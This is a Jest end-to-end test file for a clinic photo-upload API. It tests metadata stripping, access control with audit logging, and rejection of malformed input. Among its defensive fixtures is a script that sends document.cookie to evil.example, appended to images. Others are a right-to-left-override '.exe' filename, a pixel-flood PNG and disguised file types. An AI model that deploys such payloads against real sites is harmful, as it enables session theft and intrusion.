import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, it } from '@jest/globals';
import { Logger } from '@nestjs/common';
import sharp from 'sharp';
import request from 'supertest';
import { DataSource, type EntityManager } from 'typeorm';
import { transactionOwningObjects } from '../src/storage/object-batch.js';
import { OrphanSweeper } from '../src/storage/orphan-sweeper.js';
import { ObjectStore } from '../src/storage/object-store.js';
import { createTestBucket, s3TestEnv, startTestApp, type TestApp } from './support/app.js';
import { heicHeader, jpegPhoto, photoPixels, pngOfSize, SVG_IMAGE } from './support/images.js';
import { collectBytes, counts, createCase, createPatient, postForm, type FilePart } from './support/records.js';
import { createSignedIn, type SignedInStaff } from './support/staff.js';
import { TEST_SERVING_ROLE } from './support/test-env.js';

const BEFORE = { kind: 'before', view: 'front', bodyArea: 'nose', faceVisible: true };

async function readAll(stream: AsyncIterable<Buffer>): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk);
  return Buffer.concat(chunks);
}

describe('photos', () => {
  let t: TestApp;
  let frontDesk: SignedInStaff;
  let marketing: SignedInStaff;
  let caseId: string;
  const upload = (file: FilePart | null, metadata: unknown = BEFORE, target = caseId) =>
    postForm(t, frontDesk, `/api/v1/cases/${target}/photos`, 'file', file, metadata);
  const get = (path: string, staff = frontDesk) => request(t.server).get(path).auth(staff.token, { type: 'bearer' });

  beforeAll(async () => {
    // A small cap so the over-the-cap test needs no 40 MB file.
    t = await startTestApp({
      env: { ...s3TestEnv(await createTestBucket()), PHOTO_MAX_BYTES: String(3 * 1024 * 1024) },
    });
    frontDesk = await createSignedIn(t, 'front_desk');
    marketing = await createSignedIn(t, 'marketing');
    const patient = await createPatient(t, frontDesk);
    caseId = await createCase(t, frontDesk, patient.id);
  });
  afterAll(async () => t.close());

  it('accepts a JPEG with EXIF GPS and keeps none of its metadata in the renditions', async () => {
    const original = await jpegPhoto({ width: 3000, height: 2000, seed: 2, exifGps: true });
    const exif = (await sharp(original).metadata()).exif;
    assert.ok(
      exif?.includes(Buffer.from([0x88, 0x25])) || exif?.includes(Buffer.from([0x25, 0x88])),
      'fixture has a GPS IFD',
    );
    const created = await upload({ bytes: original, filename: 'IMG_0001.JPG', contentType: 'image/jpeg' });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const photo = created.body;
    assert.equal(photo.kind, 'before');
    assert.equal(photo.original.contentType, 'image/jpeg');
    assert.deepEqual([photo.original.width, photo.original.height], [3000, 2000]);
    assert.deepEqual([photo.web.width, photo.web.height], [2048, 1365]);
    assert.deepEqual([photo.thumb.width, photo.thumb.height], [400, 267]);
    assert.match(photo.perceptualHash, /^[0-9a-f]{16}$/);

    for (const [name, format] of [
      ['web', 'jpeg'],
      ['thumb', 'webp'],
    ] as const) {
      const response = await get(`/api/v1/photos/${photo.id}/renditions/${name}`).buffer(true).parse(collectBytes);
      assert.equal(response.status, 200);
      assert.equal(response.headers['content-type'], `image/${format}`);
      assert.equal(
        response.headers['cache-control'],
        name === 'web' ? 'private, no-cache' : 'private, max-age=86400, immutable',
      );
      assert.match(response.headers.etag ?? '', /^"[0-9a-f]{64}(-[0-9a-f]{16})?"$/);
      const bytes = response.body as Buffer;
      const metadata = await sharp(bytes).metadata();
      assert.equal(metadata.format, format);
      assert.equal(metadata.exif, undefined, `${name} has no EXIF`);
      // The web rendition's only XMP is the rights packet the service writes (see clearance.e2e).
      const xmp = metadata.xmp?.toString('utf8');
      if (name === 'web') assert.ok(xmp?.includes('xmpRights:UsageTerms') && !/GPS|exif:/i.test(xmp));
      else assert.equal(xmp, undefined, `${name} has no XMP`);
      assert.equal(metadata.iptc, undefined, `${name} has no IPTC`);
      assert.equal(metadata.icc, undefined, `${name} has no ICC profile`);
      assert.ok(!bytes.includes(Buffer.from('Exif\0\0')), `${name} bytes carry no EXIF block`);
      assert.ok(!bytes.includes(Buffer.from('Jane Roe')), `${name} bytes carry no artist name`);
      assert.ok(!bytes.includes(Buffer.from('TestCam')), `${name} bytes carry no camera make`);

      const again = await get(`/api/v1/photos/${photo.id}/renditions/${name}`).set(
        'if-none-match',
        response.headers.etag ?? '',
      );
      assert.equal(again.status, 304);
    }
  });

  it('says which photo a file was already uploaded as, for the same patient', async () => {
    const bytes = await jpegPhoto({ seed: 3 });
    const first = await upload({ bytes, contentType: 'image/jpeg' });
    assert.equal(first.status, 201);
    const before = await counts(t);
    const second = await upload({ bytes, contentType: 'image/jpeg' }, { ...BEFORE, kind: 'after' });
    assert.equal(second.status, 409);
    assert.equal(second.body.code, 'duplicate_photo');
    assert.equal(second.body.existingPhotoId, first.body.id);
    assert.match(second.headers['content-type'] ?? '', /^application\/problem\+json/);
    assert.deepEqual(await counts(t), before);
  });

  it('pairs an after with a before of the same case, and shows the pair from both sides', async () => {
    const beforePhoto = await upload({ bytes: await jpegPhoto({ seed: 4 }), contentType: 'image/jpeg' });
    const afterPhoto = await upload(
      { bytes: await jpegPhoto({ seed: 5 }), contentType: 'image/jpeg' },
      {
        kind: 'after',
        faceVisible: false,
        identifyingMarks: ['tattoo, left forearm'],
        pairedWithPhotoId: beforePhoto.body.id,
      },
    );
    assert.equal(afterPhoto.status, 201, JSON.stringify(afterPhoto.body));
    assert.equal(afterPhoto.body.pairedPhotoId, beforePhoto.body.id);
    assert.deepEqual(afterPhoto.body.identifyingMarks, ['tattoo, left forearm']);
    const seenFromBefore = await get(`/api/v1/photos/${beforePhoto.body.id}`);
    assert.deepEqual(seenFromBefore.body.pairedWith, [afterPhoto.body.id]);

    const wrongPair = await upload(
      { bytes: await jpegPhoto({ seed: 6 }), contentType: 'image/jpeg' },
      { kind: 'before', faceVisible: false, pairedWithPhotoId: beforePhoto.body.id },
    );
    assert.equal(wrongPair.status, 422);
    assert.equal(wrongPair.body.code, 'invalid_pairing');

    const theCase = await get(`/api/v1/cases/${caseId}`, marketing);
    assert.equal(theCase.status, 200);
    assert.ok(theCase.body.photos.some((p: { id: string }) => p.id === afterPhoto.body.id));
    assert.match(theCase.body.patientCode, /^P-/);
  });

  it('serves the original only to roles allowed identified data, and audits each read', async () => {
    const bytes = await jpegPhoto({ seed: 7 });
    const created = await upload({ bytes, filename: 'jane-roe-before.jpg', contentType: 'image/jpeg' });
    const forMarketing = await get(`/api/v1/photos/${created.body.id}/renditions/original`, marketing);
    assert.equal(forMarketing.status, 403);
    const photoForMarketing = await get(`/api/v1/photos/${created.body.id}`, marketing);
    assert.equal(photoForMarketing.status, 200);
    assert.ok(!photoForMarketing.text.includes('jane-roe'), 'the file name is identified data');
    const readsOfFileName = async () =>
      t.database.query<{ actor_id: string }>(
        "SELECT actor_id FROM audit_events WHERE action = 'photo.read' AND entity_id = $1",
        [created.body.id],
      );
    assert.deepEqual(await readsOfFileName(), []);
    const photoForFrontDesk = await get(`/api/v1/photos/${created.body.id}`);
    assert.equal(photoForFrontDesk.body.original.fileName, 'jane-roe-before.jpg');
    assert.deepEqual(await readsOfFileName(), [{ actor_id: frontDesk.id }], 'reading the file name is audited');
    for (const name of ['web', 'thumb']) {
      const rendition = await get(`/api/v1/photos/${created.body.id}/renditions/${name}`, marketing)
        .buffer(true)
        .parse(collectBytes);
      assert.equal(rendition.status, 200, `marketing reads the ${name} rendition`);
      assert.ok((rendition.body as Buffer).length > 1000);
    }

    const original = await get(`/api/v1/photos/${created.body.id}/renditions/original`).buffer(true);
    assert.equal(original.status, 200);
    assert.equal(original.headers['content-type'], 'image/jpeg');
    assert.equal(original.headers['cache-control'], 'private, no-store');
    assert.ok(Buffer.from(original.body as Buffer).equals(bytes), 'the original round-trips byte for byte');
    const reads = await t.database.query(
      `SELECT actor_id FROM audit_events WHERE action = 'photo.original.read' AND entity_id = $1`,
      [created.body.id],
    );
    assert.deepEqual(
      reads.map((r) => r.actor_id),
      [frontDesk.id],
    );
  });

  it('reads metadata sent as an application/json part', async () => {
    const boundary = 'photo-consent-test-boundary';
    const body = Buffer.concat([
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="metadata"\r\nContent-Type: application/json\r\n\r\n` +
          `${JSON.stringify({ kind: 'progress', faceVisible: false })}\r\n` +
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="p.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
      ),
      await jpegPhoto({ seed: 40 }),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const response = await request(t.server)
      .post(`/api/v1/cases/${caseId}/photos`)
      .auth(frontDesk.token, { type: 'bearer' })
      .set('content-type', `multipart/form-data; boundary=${boundary}`)
      .send(body);
    assert.equal(response.status, 201, JSON.stringify(response.body));
    assert.equal(response.body.kind, 'progress');
  });

  it('converts a Display P3 photo to sRGB and leaves an sRGB one as it is', async () => {
    const colour = [60, 170, 90];
    const distance = async (bytes: Buffer, options: { ignoreIcc?: boolean } = {}) => {
      const { data } = await sharp(bytes, options)
        .extract({ left: 32, top: 32, width: 1, height: 1 })
        .raw()
        .toBuffer({ resolveWithObject: true });
      return Math.max(...colour.map((value, index) => Math.abs(value - (data[index] ?? 0))));
    };
    for (const profile of ['p3', 'srgb'] as const) {
      // sharp writes the sRGB colour converted into the profile, so the file's own numbers are P3's.
      const bytes = await sharp({
        create: { width: 64, height: 64, channels: 3, background: { r: 60, g: 170, b: 90 } },
      })
        .withIccProfile(profile)
        .jpeg({ quality: 100 })
        .toBuffer();
      const stored = await distance(bytes, { ignoreIcc: true });
      if (profile === 'p3') assert.ok(stored > 5, `the P3 file holds other numbers than the sRGB colour (${stored})`);
      const created = await upload({ bytes, contentType: 'image/jpeg' }, { kind: 'progress', faceVisible: false });
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const web = await readAll((await t.app.get(ObjectStore).get(`photos/${created.body.id}/web`)).body);
      const shown = await distance(web, { ignoreIcc: true });
      assert.ok(shown <= 2, `${profile}: the rendition shows the colour in sRGB (off by ${shown})`);
    }
  });

  it('stores every accepted type without the script appended after its end', async () => {
    const script = Buffer.from('<script>fetch("https://evil.example/"+document.cookie)</script>');
    const photo = (seed: number) =>
      sharp(photoPixels(800, 600, seed), { raw: { width: 800, height: 600, channels: 3 } });
    const images: [contentType: string, bytes: Buffer][] = [
      ['image/jpeg', await jpegPhoto({ seed: 8 })],
      ['image/png', await photo(80).png().toBuffer()],
      ['image/webp', await photo(81).webp().toBuffer()],
      ['image/avif', await photo(82).avif().toBuffer()],
      [
        'image/tiff',
        await photo(83)
          .withExif({ IFD0: { Copyright: 'Clinic' } })
          .tiff({ compression: 'lzw' })
          .toBuffer(),
      ],
    ];
    const store = t.app.get(ObjectStore);
    for (const [contentType, image] of images) {
      const created = await upload({ bytes: Buffer.concat([image, script]), contentType });
      assert.equal(created.status, 201, `${contentType}: ${JSON.stringify(created.body)}`);
      for (const name of ['original', 'web', 'thumb']) {
        const stored = await readAll((await store.get(`photos/${created.body.id}/${name}`)).body);
        assert.ok(!stored.includes(script), `${contentType} ${name} does not contain the appended bytes`);
      }
      const original = await readAll((await store.get(`photos/${created.body.id}/original`)).body);
      assert.ok(original.equals(image), `${contentType}: the original is the image up to its end`);
    }
  });

  it('stores a file with a 10,000-character right-to-left-override name under a server key', async () => {
    const name = `\u202Egpj.${'x'.repeat(10_000)}.exe`;
    const created = await upload({ bytes: await jpegPhoto({ seed: 9 }), filename: name, contentType: 'image/jpeg' });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const fileName = created.body.original.fileName as string;
    assert.ok(!fileName.includes('\u202E'));
    assert.ok([...fileName].length <= 255);
    const keys: string[] = [];
    for await (const object of t.app.get(ObjectStore).list(`photos/${created.body.id}/`)) keys.push(object.key);
    assert.deepEqual(
      keys.sort(),
      ['original', 'thumb', 'web'].map((n) => `photos/${created.body.id}/${n}`),
    );
  });

  describe('refuses bad input with a problem and changes nothing', () => {
    const cases: [
      string,
      () => Promise<{ file: FilePart | null; metadata?: unknown; target?: string }>,
      number,
      string,
    ][] = [
      [
        'a 14,000×14,000 PNG (pixel flood)',
        async () => ({ file: { bytes: await pngOfSize(14_000, 14_000), contentType: 'image/png' } }),
        422,
        'image_too_many_pixels',
      ],
      [
        'a truncated JPEG',
        async () => {
          const bytes = await jpegPhoto({ seed: 20 });
          return { file: { bytes: bytes.subarray(0, Math.floor(bytes.length * 0.6)), contentType: 'image/jpeg' } };
        },
        422,
        'image_unreadable',
      ],
      [
        'an SVG named .jpg',
        async () => ({ file: { bytes: SVG_IMAGE, filename: 'photo.jpg', contentType: 'image/jpeg' } }),
        415,
        'unsupported_file_type',
      ],
      [
        'an iPhone HEIC',
        async () => ({ file: { bytes: heicHeader(), filename: 'IMG_1.HEIC', contentType: 'image/heic' } }),
        415,
        'heic_not_supported',
      ],
      [
        'a zero-byte file',
        async () => ({ file: { bytes: Buffer.alloc(0), contentType: 'image/jpeg' } }),
        400,
        'empty_file',
      ],
      [
        'a file over the cap',
        async () => ({ file: { bytes: Buffer.alloc(3 * 1024 * 1024 + 1, 0xff), contentType: 'image/jpeg' } }),
        413,
        'file_too_large',
      ],
      [
        'a lying content type (a PDF declared as JPEG)',
        async () => ({
          file: { bytes: Buffer.from('%PDF-1.4\n%%EOF\n'), filename: 'x.jpg', contentType: 'image/jpeg' },
        }),
        415,
        'unsupported_file_type',
      ],
      [
        'unknown metadata fields',
        async () => ({ file: { bytes: await jpegPhoto({ seed: 21 }) }, metadata: { ...BEFORE, patientName: 'x' } }),
        400,
        'validation_failed',
      ],
      [
        'a wrong kind',
        async () => ({ file: { bytes: await jpegPhoto({ seed: 22 }) }, metadata: { ...BEFORE, kind: 'during' } }),
        400,
        'validation_failed',
      ],
      [
        'metadata that is not JSON',
        async () => ({ file: { bytes: await jpegPhoto({ seed: 23 }) }, metadata: '{kind:' }),
        400,
        'malformed_body',
      ],
      [
        'a time taken that does not exist',
        async () => ({
          file: { bytes: await jpegPhoto({ seed: 27 }) },
          metadata: { ...BEFORE, takenAt: '2026-02-20T15:60:00Z' },
        }),
        400,
        'validation_failed',
      ],
      ['no file', async () => ({ file: null }), 400, 'validation_failed'],
      [
        'a NUL character in a field',
        async () => ({ file: { bytes: await jpegPhoto({ seed: 26 }) }, metadata: { ...BEFORE, view: 'front\u0000' } }),
        400,
        'validation_failed',
      ],
      [
        'a malformed case id',
        async () => ({ file: { bytes: await jpegPhoto({ seed: 24 }) }, target: 'not-a-uuid' }),
        400,
        'bad_request',
      ],
      [
        'an unknown case',
        async () => ({
          file: { bytes: await jpegPhoto({ seed: 25 }) },
          target: '00000000-0000-4000-8000-000000000000',
        }),
        404,
        'not_found',
      ],
    ];
    for (const [label, make, status, code] of cases) {
      it(label, async () => {
        const { file, metadata, target } = await make();
        const before = await counts(t);
        const response = await upload(file, metadata ?? BEFORE, target ?? caseId);
        assert.equal(response.status, status, JSON.stringify(response.body));
        assert.equal(response.body.code, code);
        assert.match(response.headers['content-type'] ?? '', /^application\/problem\+json/);
        if (code === 'heic_not_supported') assert.match(response.body.detail, /Export the photo as JPEG/);
        assert.deepEqual(await counts(t), before);
      });
    }

    it('a form with an over-long boundary', async () => {
      const before = await counts(t);
      const boundary = 'b'.repeat(300);
      const response = await request(t.server)
        .post(`/api/v1/cases/${caseId}/photos`)
        .auth(frontDesk.token, { type: 'bearer' })
        .set('content-type', `multipart/form-data; boundary=${boundary}`)
        .send(`--${boundary}\r\nContent-Disposition: form-data; name="metadata"\r\n\r\n{}\r\n--${boundary}--\r\n`);
      assert.equal(response.status, 400, JSON.stringify(response.body));
      assert.equal(response.body.code, 'malformed_multipart');
      assert.deepEqual(await counts(t), before);
    });

    it('a JSON body instead of a form', async () => {
      const before = await counts(t);
      const response = await request(t.server)
        .post(`/api/v1/cases/${caseId}/photos`)
        .auth(frontDesk.token, { type: 'bearer' })
        .send(BEFORE);
      assert.equal(response.status, 415);
      assert.equal(response.body.code, 'multipart_required');
      assert.deepEqual(await counts(t), before);
    });
  });

  it('deletes the stored objects when the row cannot be written', async () => {
    await t.database.query(`
      CREATE FUNCTION refuse_photo() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused'; END $$;
      CREATE TRIGGER refuse_photo BEFORE INSERT ON photos FOR EACH ROW EXECUTE FUNCTION refuse_photo();`);
    try {
      const before = await counts(t);
      const response = await upload({ bytes: await jpegPhoto({ seed: 30 }), contentType: 'image/jpeg' });
      assert.equal(response.status, 500);
      assert.deepEqual(await counts(t), before);
    } finally {
      await t.database.query('DROP TRIGGER refuse_photo ON photos; DROP FUNCTION refuse_photo();');
    }
  });

  it('turns a photo upright by its EXIF orientation', async () => {
    // Stored 600×400, left half red and right half blue; orientation 6 shows it a quarter turn clockwise.
    const halves = Buffer.alloc(600 * 400 * 3);
    for (let pixel = 0; pixel < 600 * 400; pixel++) {
      halves.set(pixel % 600 < 300 ? [220, 30, 30] : [30, 30, 220], pixel * 3);
    }
    const sideways = await sharp(halves, { raw: { width: 600, height: 400, channels: 3 } })
      .jpeg({ quality: 95 })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const created = await upload({ bytes: sideways, contentType: 'image/jpeg' });
    assert.equal(created.status, 201, JSON.stringify(created.body));
    const photo = created.body;
    assert.deepEqual([photo.original.width, photo.original.height], [400, 600]);
    assert.deepEqual([photo.web.width, photo.web.height], [400, 600]);
    assert.deepEqual([photo.thumb.width, photo.thumb.height], [267, 400]);
    for (const name of ['web', 'thumb']) {
      const bytes = (await get(`/api/v1/photos/${photo.id}/renditions/${name}`).buffer(true).parse(collectBytes))
        .body as Buffer;
      assert.equal((await sharp(bytes).metadata()).orientation, undefined, `${name} needs no orientation tag`);
      const { data, info } = await sharp(bytes).raw().toBuffer({ resolveWithObject: true });
      const at = (x: number, y: number) => {
        const offset = (Math.floor(y) * info.width + Math.floor(x)) * info.channels;
        return [...data.subarray(offset, offset + 3)];
      };
      const [top, bottom] = [at(info.width / 2, info.height / 8), at(info.width / 2, (info.height * 7) / 8)];
      assert.ok(top[0] > 150 && top[2] < 100, `${name}: the left half is on top, red: ${top.join()}`);
      assert.ok(bottom[2] > 150 && bottom[0] < 100, `${name}: the right half below, blue: ${bottom.join()}`);
    }
  });

  it('answers a malformed id in a photo or case path with 400 and an unknown one with 404', async () => {
    const unknown = '00000000-0000-4000-8000-000000000000';
    for (const path of [
      '/photos/{id}',
      '/photos/{id}/renditions/web',
      '/photos/{id}/renditions/original',
      '/cases/{id}',
    ]) {
      const malformed = await get(`/api/v1${path.replace('{id}', 'not-a-uuid')}`);
      assert.equal(malformed.status, 400, path);
      assert.match(malformed.headers['content-type'] ?? '', /^application\/problem\+json/, path);
      const missing = await get(`/api/v1${path.replace('{id}', unknown)}`);
      assert.equal(missing.status, 404, path);
      assert.match(missing.headers['content-type'] ?? '', /^application\/problem\+json/, path);
    }
  });

  it('deletes the objects of a write refused at COMMIT, and keeps them when the answer to COMMIT was lost', async () => {
    const store = t.app.get(ObjectStore);
    const dataSource = t.app.get(DataSource);
    const logger = new Logger('test');
    const stored = async () => {
      const key = `photos/${randomUUID()}/original`;
      await store.put(key, Buffer.from('stored before its row'));
      return key;
    };
    // A deferred trigger refuses the COMMIT: the server answered, so nothing was written.
    await t.database.query(`
      CREATE TABLE commit_refusals (id int);
      CREATE FUNCTION refuse_at_commit() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE EXCEPTION 'refused at commit'; END $$;
      CREATE CONSTRAINT TRIGGER refuse_at_commit AFTER INSERT ON commit_refusals
        DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION refuse_at_commit();
      GRANT INSERT ON commit_refusals TO ${TEST_SERVING_ROLE};`);
    try {
      const refused = await stored();
      await assert.rejects(
        transactionOwningObjects(dataSource, store, [refused], logger, (manager) =>
          manager.query('INSERT INTO commit_refusals VALUES (1)'),
        ),
        /refused at commit/,
      );
      assert.equal(await store.head(refused), null);
    } finally {
      await t.database.query('DROP TABLE commit_refusals; DROP FUNCTION refuse_at_commit();');
    }
    // The connection went with the answer to COMMIT: the rows may have been written.
    const unknown = await stored();
    const answerLost = {
      transaction: async (work: (manager: EntityManager) => Promise<unknown>) => {
        await work(dataSource.manager);
        throw new Error('Connection terminated unexpectedly');
      },
    } as unknown as DataSource;
    await assert.rejects(
      transactionOwningObjects(answerLost, store, [unknown], logger, async () => 'written'),
      /Connection terminated/,
    );
    assert.notEqual(await store.head(unknown), null, 'left to the orphan sweep');
    await store.delete(unknown);
  });

  it('sweeps objects that no row references once they are a day old, and nothing else', async () => {
    const store = t.app.get(ObjectStore);
    const kept = await upload({ bytes: await jpegPhoto({ seed: 31 }), contentType: 'image/jpeg' });
    await store.put('photos/11111111-1111-4111-8111-111111111111/original', Buffer.from('left by a crash'));
    await store.put('releases/22222222-2222-4222-8222-222222222222/document', Buffer.from('left by a crash'));
    const sweeper = t.app.get(OrphanSweeper);
    // The store dates objects by the real clock; the service's clock is moved to it, then past a day.
    t.clock.set(new Date());
    assert.equal(await sweeper.sweep(), 0, 'a fresh orphan may belong to an upload in progress');
    t.clock.advance(25 * 3600_000);
    assert.equal(await sweeper.sweep(), 2);
    assert.equal(await store.head('photos/11111111-1111-4111-8111-111111111111/original'), null);
    assert.equal(await store.head('releases/22222222-2222-4222-8222-222222222222/document'), null);
    assert.notEqual(await store.head(`photos/${kept.body.id}/original`), null);
    assert.notEqual(await store.head(`photos/${kept.body.id}/web`), null);
  });
});
